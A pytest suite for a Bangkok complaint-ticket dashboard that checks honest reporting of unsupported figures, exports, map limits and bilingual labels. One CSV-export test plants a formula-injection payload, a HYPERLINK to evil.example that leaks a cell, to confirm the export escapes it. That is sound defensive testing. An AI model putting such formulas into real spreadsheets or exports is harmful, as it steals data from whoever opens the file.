"""Figures say what the data supports: one test per defect of the honest-figures issue.

Two hand-built stores: one whose finished tickets have finish times (the dump format) and
one whose tickets have none (like the real 2022 API file).
"""

from __future__ import annotations

import csv
import io
import json
import re
import tomllib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import duckdb
import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from dashboard import launcher
from dashboard.analysis import hotspots, metrics
from dashboard.analysis.filters import Filters
from dashboard.ingest.load import ingest_files
from dashboard.render import assets, exports, lod, maps
from tests.apptest import open_page, plain, serving
from tests.fixtures import ticket, write_csv

ROOT = Path(__file__).resolve().parents[1]
APP = str(ROOT / "dashboard" / "app.py")
AS_OF = pd.Timestamp("2022-07-01 00:00:00+00").to_pydatetime()


def _rows(*, finish_times: bool) -> list[dict[str, str]]:
    done = "2022-06-03 03:00:00+00" if finish_times else ""
    return [
        ticket("O1", code="1006", timestamp="2022-05-01 03:00:00+00", last_activity=""),
        ticket("O2", code="1006", timestamp="2022-05-20 03:00:00+00", last_activity=""),
        ticket("O3", code="1006", half=1, timestamp="2022-06-25 03:00:00+00", last_activity=""),
        ticket("F1", code="1006", state="เสร็จสิ้น", last_activity=done, star="1"),
        ticket("F2", code="1006", half=1, state="เสร็จสิ้น", last_activity=done, count_reopen=""),
        ticket("F3", code="1006", state="เสร็จสิ้น", timestamp="2022-06-28 03:00:00+00",
               last_activity="2022-06-29 03:00:00+00" if finish_times else "",
               photo_after="https://example.invalid/after.jpg", count_reopen="2"),
        ticket("C1", code="1030", timestamp="2022-06-10 03:00:00+00", last_activity=""),
    ]  # fmt: skip


def _store(tmp_path: Path, data_dir: Path, *, finish_times: bool) -> Path:
    path = tmp_path / f"store_{finish_times}.duckdb"
    rows = _rows(finish_times=finish_times)
    ingest_files(paths=[write_csv(tmp_path / "t.csv", rows)], store_path=path, data_dir=data_dir)
    return path


@pytest.fixture
def no_finish(tmp_path: Path, data_dir: Path) -> Path:
    return _store(tmp_path, data_dir, finish_times=False)


@pytest.fixture
def with_finish(tmp_path: Path, data_dir: Path) -> Path:
    return _store(tmp_path, data_dir, finish_times=True)


@pytest.fixture
def app_on(monkeypatch: pytest.MonkeyPatch) -> Iterator[object]:
    def use(store: Path, page: str | None = None, **params: str) -> AppTest:
        with serving(store, monkeypatch):
            return open_page(page, **params)

    yield use


def chart_series(at: AppTest, index: int = 0) -> set[str]:
    """The series names a chart draws (from its Arrow dataset)."""
    import pyarrow as pa

    data = at.get("vega_lite_chart")[index].proto.datasets[0].data.data
    table = pa.ipc.open_stream(data).read_all()
    return set(table.column("series").to_pylist())


def texts(at: AppTest) -> list[str]:
    found = [
        plain(str(e.value))
        for kind in ("caption", "info", "warning", "error")
        for e in at.get(kind)
    ]
    return found + [f"{m.label}={m.value}" for m in at.metric]


# --- what the data can support -----------------------------------------------------------


def test_coverage_counts_what_the_tickets_carry(no_finish: Path, with_finish: Path) -> None:
    with duckdb.connect(str(no_finish), read_only=True) as con:
        none = metrics.data_coverage(con, filters=Filters())
    with duckdb.connect(str(with_finish), read_only=True) as con:
        some = metrics.data_coverage(con, filters=Filters())
    assert (none.tickets, none.finished, none.finish_time, none.star, none.after_photo) == (
        7,
        3,
        0,
        1,
        1,
    )
    assert (some.finish_time, some.share("finish_time")) == (3, 1.0)
    assert none.reopen_count == 6  # F2 has an empty count_reopen
    assert not none.supports("finish_time") and some.supports("finish_time")
    assert none.note("finish_time", "en") == (
        "Not available in this data: no finished ticket has a finish time; "
        "Traffy's public data does not give it"
    )
    assert none.note("star", "en") == "Based on the 1 of 7 tickets (14%) that citizens rated"
    assert some.note("finish_time", "en") == ""  # every finished ticket has one


def test_without_finish_times_the_weekly_chart_draws_no_finished_line_and_says_why(
    no_finish: Path, app_on: object
) -> None:
    at = app_on(no_finish, "district", district="1006", lang="en")  # type: ignore[operator]
    assert not at.exception and not at.error
    assert chart_series(at) == {"Opened"}  # no flat zero line
    assert "Weekly: opened" in [h.value for h in at.subheader]
    shown = texts(at)
    assert (
        "Finished: Not available in this data: no finished ticket has a finish time; "
        "Traffy's public data does not give it" in shown
    )
    # a figure the data cannot support is one quiet line with its reason, not a card
    assert not any(line.startswith("Median days to finish=") for line in shown)
    assert (
        "Not available in this data: Median days to finish — no finished ticket has a finish "
        "time; Traffy's public data does not give it" in shown
    )
    # the note stays with state=open too, in its own words
    at = app_on(no_finish, "district", district="1006", lang="en", state="open")  # type: ignore[operator]
    assert "With only open tickets selected there is no finished line to draw" in texts(at)


def test_with_finish_times_the_finished_line_is_drawn(with_finish: Path, app_on: object) -> None:
    at = app_on(with_finish, "district", district="1006", lang="en")  # type: ignore[operator]
    assert "Weekly: opened vs finished" in [h.value for h in at.subheader]
    assert "Median days to finish=2.0" in texts(at)  # 2, 2 and 1 days
    assert chart_series(at) == {"Opened", "Finished"}


def test_a_link_to_the_median_days_map_metric_falls_back_and_says_why(
    no_finish: Path, app_on: object
) -> None:
    at = app_on(no_finish, None, lang="en", metric="median_days_to_finish")  # type: ignore[operator]
    assert (
        "Ignored metric=median_days_to_finish from the link: no finished ticket has a "
        "finish time; Traffy's public data does not give it" in texts(at)
    )  # not an all-grey map: the menu does not offer it (tests/test_review_page_design.py)
    ranking = at.dataframe[0].value
    assert "median_days_to_finish" not in ranking.columns  # no column of blanks
    assert list(ranking["open"][:2]) == [3, 1]  # ranked by open instead


def test_the_closure_audit_leaves_out_what_it_cannot_judge(no_finish: Path, app_on: object) -> None:
    at = app_on(no_finish, "review", lang="en", min_n="1", since="2022-05-01", until="2022-06-30")  # type: ignore[operator]
    assert not at.exception and not at.error
    audit = at.dataframe[-2].value
    assert (
        "Closed implausibly fast" not in audit.columns
        and "closed implausibly fast" not in audit.columns
    )
    assert (
        "closed implausibly fast: Not available in this data: no finished ticket has a "
        "finish time; Traffy's public data does not give it" in texts(at)
    )
    flagged = at.dataframe[-1].value
    assert "hours_to_finish" not in flagged.columns
    league = at.dataframe[-3].value
    assert "Median days to finish" not in league.columns
    # the review page shows the brief's league: the rate says its period, the change is the
    # open share's against the city's; the audit's caption names only the checks shown
    assert "Open per 10k residents (reports of 1 May 2022 – 30 Jun 2022)" in league.columns
    assert (
        "Change in open share since the previous period, against the city's "
        "(points; lower is better)"
    ) in league.columns
    assert not any("closed within" in line for line in texts(at))
    assert (
        "Median days to finish: Not available in this data: no finished ticket has a "
        "finish time; Traffy's public data does not give it" in texts(at)
    )


def test_the_reopened_share_is_over_the_tickets_that_have_a_reopen_count(
    no_finish: Path, data_dir: Path
) -> None:
    from dashboard import boundaries
    from dashboard.analysis import review

    with duckdb.connect(str(no_finish), read_only=True) as con:
        audit = review.closure_audit(
            con,
            filters=Filters(),
            layer=boundaries.load_districts(data_dir=data_dir),
            settings=review.ReviewSettings(),
        )
    bang_kapi = audit[audit["code"] == "1006"].iloc[0]
    assert (bang_kapi["finished"], bang_kapi["with_reopen_count"], bang_kapi["reopened"]) == (
        3,
        2,
        1,
    )
    assert bang_kapi["reopened_share"] == 0.5  # F2 has no count: not 1 of 3


def test_the_about_page_lists_coverage(no_finish: Path, app_on: object) -> None:
    at = app_on(no_finish, "about", lang="en")  # type: ignore[operator]
    table = at.dataframe[1].value
    finish = table[table["Field"] == "Finish time (of finished tickets)"].iloc[0]
    assert (finish["Tickets that have it"], finish["Of"], finish["Share"]) == ("0", "3", "0.0%")
    assert any("median days to finish, weekly finished line" in w for w in texts(at))


# --- defect 1: GeoJSON download with empty finish times ----------------------------------


def test_geojson_download_works_when_no_ticket_has_a_finish_time(no_finish: Path) -> None:
    with duckdb.connect(str(no_finish), read_only=True) as con:
        frame, _ = metrics.tickets_page(con, filters=Filters(), as_of=AS_OF)
    assert frame["last_activity"].isna().all()
    table = exports.export_frame(
        frame, names={"1006": "Bang Kapi"}, lang="en", with_finish_times=True
    )
    document = json.loads(exports.tickets_geojson(table, notes=["x"]))
    assert len(document["features"]) == 7
    assert {f["properties"]["last_activity_bangkok"] for f in document["features"]} == {None}
    assert document["khetmap_notes"] == ["x"]


# --- defect 2: streamlit run from the repo root, missing assets ---------------------------


def test_streamlit_run_from_the_repo_root_gets_the_settings_khetmap_run_passes() -> None:
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    flags = launcher.streamlit_command(port=1, address="x")
    for section, values in config.items():
        for key, value in values.items():
            expected = str(value).lower() if isinstance(value, bool) else str(value)
            assert flags[flags.index(f"--{section}.{key}") + 1] == expected
    assert config["server"]["enableStaticServing"] is True
    assert config["client"]["showErrorDetails"] == "none"


def test_a_map_without_its_libraries_says_so_instead_of_a_blank_frame(
    with_finish: Path, app_on: object, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setattr(assets, "VENDOR_DIR", tmp_path / "no-vendor")
    at = app_on(with_finish, None, lang="en")  # type: ignore[operator]
    errors = [plain(e.value) for e in at.error]
    assert len(errors) == 1
    assert errors[0].startswith("The map cannot be drawn: the app's map libraries are missing")
    assert "run scripts/setup.sh and reload" in errors[0]


# --- defect 3: which points a map over its byte cap draws ------------------------------


def test_a_view_over_the_byte_cap_draws_the_oldest_open_first_and_says_so(
    no_finish: Path, app_on: object, monkeypatch: pytest.MonkeyPatch
) -> None:
    district = lod.Viewport.fitting((100.65, 13.60, 100.70, 13.65))  # 1006 on the grid
    with duckdb.connect(str(no_finish), read_only=True) as con:

        def layer(**kwargs: Any) -> lod.TicketLayer:
            return lod.ticket_layer(
                con,
                filters=Filters(district="1006"),
                as_of=AS_OF,
                viewport=district,
                lang="en",
                **kwargs,
            )

        whole = layer()
        # a cap just under the full popups: short popups, all 6
        short = layer(cap=lod.SCRIPT_ALLOWANCE + whole.bytes - 1)
        legend = lod.wire_size(short.legend) + 2
        row = max(lod.wire_size(r) for r in short.points) + 2
        oldest = layer(cap=lod.SCRIPT_ALLOWANCE + legend + int(4.5 * row))
        newest = layer(order="newest", cap=lod.SCRIPT_ALLOWANCE + legend + int(2.5 * row))
    assert whole.in_view == whole.drawn == 6 and not whole.short_popups
    assert short.short_popups and short.drawn == 6
    assert oldest.ids == ["O1", "O2", "O3", "F3"]  # open oldest first, then the newest
    assert newest.ids == ["F3", "O3"]
    assert oldest.caption("en").startswith(f"Showing {oldest.drawn} of the 6 tickets in view")


def test_the_page_offers_the_order_only_when_a_view_is_cut(
    no_finish: Path, app_on: object, monkeypatch: pytest.MonkeyPatch
) -> None:
    at = app_on(no_finish, "district", district="1006", lang="en")  # type: ignore[operator]
    assert any(c.startswith("All 6 tickets in view, each a point") for c in texts(at)), texts(at)
    assert not [r for r in at.radio if r.key == "w_points"]
    monkeypatch.setattr(lod, "BYTE_CAP", lod.SCRIPT_ALLOWANCE + 400)  # the legend and 1–2 rows
    at = app_on(no_finish, "district", district="1006", lang="en", points="newest")  # type: ignore[operator]
    assert any(c.startswith("Showing ") and "of the 6 tickets in view" in c for c in texts(at)), (
        texts(at)
    )
    assert at.radio(key="w_points").value == "newest"


# --- defect 4: KPIs that follow the view --------------------------------------------------


def test_a_subdistrict_view_has_no_district_per_10k_figure(no_finish: Path, app_on: object) -> None:
    at = app_on(no_finish, "district", subdistrict="100601", lang="en")  # type: ignore[operator]
    labels = [m.label for m in at.metric]
    assert "Open per 10k residents" not in labels
    assert (
        "Open per 10k residents: not applicable to a subdistrict (population is known "
        "per district only)" in texts(at)
    )
    at = app_on(no_finish, "district", district="1006", lang="en")  # type: ignore[operator]
    assert "Open per 10k residents" in [m.label for m in at.metric]


def test_a_state_filter_hides_figures_that_would_only_repeat_it(
    no_finish: Path, app_on: object
) -> None:
    at = app_on(no_finish, None, lang="en", state="open")  # type: ignore[operator]
    labels = [m.label for m in at.metric]
    assert "Open" in labels and "Total" not in labels and "Finished share" not in labels


# --- defect 5: hotspot area labels --------------------------------------------------------


def test_an_area_label_says_which_name_is_the_district_and_labels_never_repeat() -> None:
    # areas are split at district boundaries (tests/test_review_maps.py), so a label names
    # one district, its main subdistrict and street, each said for what it is (Huai Khwang
    # has a subdistrict Bang Kapi, which is also a district's name); a repeat takes the
    # second street, then the rank; a name that already says what it is is not said twice
    areas = pd.DataFrame(
        {
            "rank": [1, 2, 3, 4, 5],
            "district_code": ["1017", "1006", "1006", "1006", "1099"],
            "subdistrict_counts": [
                [("101701", 1)],
                [("100602", 50)],
                [("100602", 40)],
                [("100602", 30)],
                [("109901", 3)],
            ],
            "streets": [
                ["ถนนเพชรบุรีตัดใหม่"],
                ["ถนนรามคำแหง"],
                ["ถนนรามคำแหง", "ซอยลาดพร้าว 101"],
                ["ถนนรามคำแหง"],
                [],
            ],
        }
    )
    english = {"1017": "Huai Khwang", "101701": "Bang Kapi", "1006": "Bang Kapi",
               "100602": "Hua Mak", "1099": "District 1099", "109901": "Khwaeng 1099-1"}  # fmt: skip
    assert hotspots.area_labels(areas, names=english, lang="en") == [
        "Huai Khwang district, Bang Kapi subdistrict, ถนนเพชรบุรีตัดใหม่",
        "Bang Kapi district, Hua Mak subdistrict, ถนนรามคำแหง",
        "Bang Kapi district, Hua Mak subdistrict, ถนนรามคำแหง, ซอยลาดพร้าว 101",
        "Bang Kapi district, Hua Mak subdistrict, ถนนรามคำแหง (area 4)",
        "District 1099, Khwaeng 1099-1 subdistrict",
    ]
    thai = {"1017": "ห้วยขวาง", "101701": "บางกะปิ", "1006": "บางกะปิ", "100602": "หัวหมาก",
            "1099": "เขต1099", "109901": "แขวง10991"}  # fmt: skip
    assert hotspots.area_labels(areas, names=thai, lang="th") == [
        "เขตห้วยขวาง แขวงบางกะปิ ถนนเพชรบุรีตัดใหม่",
        "เขตบางกะปิ แขวงหัวหมาก ถนนรามคำแหง",
        "เขตบางกะปิ แขวงหัวหมาก ถนนรามคำแหง ซอยลาดพร้าว 101",
        "เขตบางกะปิ แขวงหัวหมาก ถนนรามคำแหง (พื้นที่อันดับ 4)",
        "เขต1099 แขวง10991",
    ]


# --- defect 6: reading guide --------------------------------------------------------------


def test_the_review_page_and_its_brief_say_how_to_read_them(
    no_finish: Path, app_on: object
) -> None:
    at = app_on(no_finish, "review", lang="en", min_n="1")  # type: ignore[operator]
    guide = " ".join(plain(c.value) for c in at.caption)  # quiet lines, no blue box
    assert "Rank 1 is the worst" in guide
    assert "“Open” is a ticket's state today" in guide
    briefs = [b.proto.label for b in at.get("download_button")]
    assert briefs == ["Download the meeting brief (PDF)", "Download the meeting brief (HTML)"]


# --- defect 7: the flagged-tickets table --------------------------------------------------


def test_the_flagged_table_speaks_the_page_language_with_names_and_photo_links(
    no_finish: Path, app_on: object, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("KHETMAP_PHOTO_HOSTS", "example.invalid")  # the fixture's photo host
    at = app_on(no_finish, "review", lang="th", min_n="1", since="2022-05-01", until="2022-06-30")  # type: ignore[operator]
    flagged = at.dataframe[-1]
    config = json.loads(flagged.proto.columns)
    labels = {name: c.get("label") for name, c in config.items()}
    assert labels["flags"] == "ข้อสังเกต" and labels["district"] == "เขต"
    assert labels["photo"] == "ภาพก่อน"
    rows = flagged.value
    assert set(rows["district"]) == {"เขต1006"}  # names, not codes
    assert "1–2 ดาว" in " ".join(rows["flags"])
    assert "low_star" not in " ".join(rows["flags"])
    assert all(link.startswith("https://example.invalid/") for link in rows["photo"])


# --- defect 9: the smaller ones -----------------------------------------------------------


def test_the_city_ranking_shows_each_figure_once(no_finish: Path, app_on: object) -> None:
    at = app_on(no_finish, None, lang="en", metric="open")  # type: ignore[operator]
    ranking = at.dataframe[0].value
    # the default map metric ranks by the fair one, open per 10,000 residents, first
    assert list(ranking.columns) == [
        "#",
        "district",
        "open_per_10k",
        "total",
        "open",
        "open_over_30",
    ]


def test_the_heat_layer_has_its_own_legend_and_the_districts_become_outlines() -> None:
    square = {"type": "Polygon", "coordinates": [[[100, 13], [101, 13], [101, 14], [100, 13]]]}
    feature = {"type": "Feature", "geometry": square,
               "properties": {"code": "1001", "tooltip": "x", "fill": "#fff"}}  # fmt: skip
    collection = {"type": "FeatureCollection", "features": [feature]}
    cells = pd.DataFrame({"lat": [13.7], "lon": [100.5], "open": [3]})
    html = maps.city_map(collection=collection, bins=maps.Bins(edges=(1.0,)), legend_title="x",
                         metric="open", heat_cells=cells, view=None, lang="en").get_root().render()  # fmt: skip
    assert "Density of open complaints" in html and "linear-gradient" in html
    assert "With the density layer on, districts are drawn as outlines" in html
    assert '"fillOpacity": 0.0' in html


def test_the_district_page_without_a_district_says_what_to_do(
    no_finish: Path, app_on: object
) -> None:
    at = app_on(no_finish, "district", lang="en")  # type: ignore[operator]
    assert plain(at.info[0].value).startswith("No district chosen: pick one from the list above")
    assert "click a district on the map" not in " ".join(texts(at)).lower().replace(
        "city overview map", ""
    )


def test_the_ticket_search_looks_in_comments_unless_asked(no_finish: Path) -> None:
    with duckdb.connect(str(no_finish), read_only=True) as con:
        con.execute("SET TimeZone='UTC'")
        args = {"filters": Filters(), "as_of": AS_OF}
        _, in_comments = metrics.tickets_page(con, q="1006", **args)  # type: ignore[arg-type]
        _, everywhere = metrics.tickets_page(con, q="O1", scope="all", **args)  # type: ignore[arg-type]
    assert (in_comments, everywhere) == (0, 1)


def test_csv_has_bangkok_times_names_links_and_no_formula(no_finish: Path) -> None:
    with duckdb.connect(str(no_finish), read_only=True) as con:
        frame, _ = metrics.tickets_page(con, filters=Filters(), as_of=AS_OF, sort="oldest")
    frame.loc[0, "comment"] = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
    table = exports.export_frame(
        frame,
        names={"1006": "Bang Kapi", "100601": "Khlong Chan"},
        lang="en",
        with_finish_times=False,
    )
    rows = list(csv.DictReader(io.StringIO(exports.tickets_csv(table).decode("utf-8-sig"))))
    first = rows[0]
    assert first["reported_at_bangkok"] == "2022-05-01 10:00"  # 03:00 UTC, to the minute
    assert (first["district_name"], first["subdistrict_name"]) == ("Bang Kapi", "Khlong Chan")
    assert first["public_page"] == "https://share.traffy.in.th/teamchadchart/O1"
    assert first["comment"].startswith("'=HYPERLINK(")
    assert "last_activity_bangkok" not in first


def test_the_oldest_open_table_has_a_download_of_every_open_ticket(
    no_finish: Path, app_on: object
) -> None:
    at = app_on(no_finish, "district", district="1006", lang="en")  # type: ignore[operator]
    labels = [b.proto.label for b in at.get("download_button")]
    # the map's picture, then the table's own download
    assert labels == [
        "Save the map as a picture (PNG)",
        "Download every open ticket of this view (CSV, oldest first)",
    ]
    assert any(re.match(r"3 open, \d overdue; the first 3 shown", text) for text in texts(at))


def test_no_page_uses_emoji_glyphs_that_need_an_emoji_font() -> None:
    sources = "".join(p.read_text(encoding="utf-8") for p in (ROOT / "dashboard").rglob("*.py"))
    assert "📷" not in sources and "🆕" not in sources and "⬆️" not in sources


def test_the_summary_command_says_which_columns_the_data_cannot_fill(
    no_finish: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from dashboard.cli import main

    assert main(["summary", "--store", str(no_finish), "--format", "csv"]) == 0
    err = capsys.readouterr().err.splitlines()
    assert err[1] == (
        "median_days_to_finish: Not available in this data: no finished ticket has a finish "
        "time; Traffy's public data does not give it"
    )
    assert err[2] == (
        "on_time_share: Not available in this data: no finished ticket has a finish "
        "time; Traffy's public data does not give it"
    )
    assert err[3] == "reopened: Based on the 6 of 7 tickets (86%) that have a reopen count"


# --- review v2: a trend the data cannot support is said, not drawn -------------------------


def test_the_backlog_trend_without_finish_times_is_said_not_drawn(
    no_finish: Path, app_on: object
) -> None:
    at = app_on(no_finish, "review", lang="en", hot="emerging", measure="backlog")  # type: ignore[operator]
    assert not at.exception and not at.error
    assert any(
        t.startswith(
            "Not available in this data: rebuilding the weekly backlog needs closing dates"
        )
        for t in texts(at)
    ), texts(at)
    assert at.radio(key="w_measure").value == "backlog"
    assert at.query_params["hot"] == "emerging" and at.query_params["measure"] == "backlog"
    # the map question and its meaning are said above the (absent) map
    assert any("which hot spots appeared or grew" in plain(m.value) for m in at.markdown)


def test_the_rate_map_says_what_it_answers_and_its_method(no_finish: Path, app_on: object) -> None:
    at = app_on(no_finish, "review", lang="en", since="2022-05-01", until="2022-06-30")  # type: ignore[operator]
    assert at.radio(key="w_hot").value == "rate"
    assert any("too few to judge" in plain(m.value) for m in at.markdown)
    assert any("empirical Bayes (Marshall 1991" in t for t in texts(at))
